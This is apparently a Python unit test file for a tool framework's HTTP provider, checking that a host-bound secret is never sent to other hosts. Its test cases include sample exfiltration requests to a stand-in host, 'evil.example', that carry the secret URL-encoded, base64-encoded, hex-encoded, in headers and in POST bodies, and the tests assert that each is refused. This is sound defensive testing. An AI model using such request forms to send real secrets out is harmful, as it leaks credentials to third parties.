"""A bound secret goes to its hosts: the built request is looked at, and one that leads elsewhere is not sent."""

import json
from base64 import b64encode
from urllib.parse import quote

import pytest

from tests.unit.providers.http.fakes import FakeClient, contract, invocation, provider, run, sent
from toolcrib.contracts.errors import Code
from toolcrib.contracts.provider import Success
from toolcrib.contracts.secret import Secret
from toolcrib.kit.http import HttpRequest
from toolcrib.providers.http import SecretHost, Ties

VALUE = "s3cr3t/välue+1"
HERE = Secret("KEY", VALUE, hosts=("tides.example.com",))
ELSEWHERE = Secret("KEY", VALUE, hosts=("other.example.com",))
WAYS = [
    {"auth": {"method": "bearer", "secret_ref": "${KEY}"}},
    {"auth": {"method": "api_key_query", "secret_ref": "${KEY}"}},
    {"auth": {"method": "basic", "username": "me", "secret_ref": "${KEY}"}},
    {"headers": {"X-Text": "key ${KEY};"}},
    {"params": {"q": "${KEY}"}},
]


@pytest.mark.parametrize("api", WAYS)
async def test_a_bound_secret_goes_to_its_host_and_to_no_other(api):
    assert await sent(contract(api=api), KEY=HERE)
    outcome, requests = await run(contract(api=api), KEY=ELSEWHERE)
    assert (requests, outcome.code, outcome.details) == ([], Code.EGRESS_DENIED, {"reason": "secret_host"})
    assert "KEY" in outcome.message
    assert "example.com" not in outcome.message
    assert not outcome.retryable


async def test_a_preview_is_refused_as_the_call_would_be():
    of = contract(api=WAYS[0])
    shown = await provider().prepare(of).preview(invocation({}, KEY=ELSEWHERE))
    assert (shown.code, shown.details) == (Code.EGRESS_DENIED, {"reason": "secret_host"})
    assert isinstance(await provider().prepare(of).preview(invocation({}, KEY=HERE)), Success)


async def test_of_two_secrets_each_is_asked():
    of = contract(api={"headers": {"X-A": "${A}", "X-B": "${B}"}})
    outcome, requests = await run(of, A=HERE, B=Secret("B", "v", hosts=("b.example",)))
    assert (requests, "secret B" in outcome.message) == ([], True)


@pytest.mark.parametrize("form", [VALUE, quote(VALUE), b64encode(VALUE.encode()).decode()])
async def test_what_a_caller_has_open_does_not_leave_in_an_input(form):
    client = FakeClient()
    ready = provider(client).prepare(contract("text"))
    for secret, count in ((ELSEWHERE, 0), (HERE, 1), (Secret("KEY", VALUE), 2)):
        asked = invocation({"text": f"see {form}"})
        outcome = await ready.run(type(asked)("e", "w", asked.input, {}, passed={"KEY": secret}))
        assert len(client.sent) == count, outcome


@pytest.mark.parametrize(
    "request_",
    [
        HttpRequest("GET", f"https://evil.example/?k={quote(VALUE, safe='')}"),
        HttpRequest("GET", "https://evil.example/" + b64encode(VALUE.encode()).decode()),
        HttpRequest("GET", "https://evil.example/", (("X-Key", VALUE),)),
        HttpRequest(
            "GET", "https://evil.example/", (("Authorization", "Basic " + b64encode(f"me:{VALUE}".encode()).decode()),)
        ),
        HttpRequest("GET", "https://evil.example/", (("X-Hex", VALUE.encode().hex()),)),
        HttpRequest("POST", "https://evil.example/", (), json.dumps({"k": VALUE}).encode()),
        HttpRequest("POST", "https://evil.example/", (), VALUE.encode("utf-16-le")),
        HttpRequest("POST", "not a url", (), VALUE.encode()),
    ],
)  # fmt: skip
def test_a_request_that_carries_it_in_any_form_is_refused(request_):
    ties = Ties({"KEY": HERE})
    for _ in range(2):
        with pytest.raises(SecretHost) as refused:
            ties.check(request_)
        assert (VALUE in str(refused.value), "evil" in str(refused.value), refused.value.sent) == (
            False, False, False,
        )  # fmt: skip


@pytest.mark.parametrize(
    "request_",
    [
        HttpRequest("GET", "https://evil.example/?k=innocent", (("X-A", "b"),), b"body"),
        HttpRequest("GET", f"https://tides.example.com/?k={quote(VALUE, safe='')}", (("X-Key", VALUE),)),
    ],
)
def test_one_that_does_not_carry_it_or_goes_home_passes(request_):
    Ties({"KEY": HERE}).check(request_)


def test_what_is_bound_to_nothing_is_not_looked_for():
    Ties({"KEY": Secret("KEY", VALUE)}).check(HttpRequest("GET", "https://evil.example/", (("X", VALUE),)))
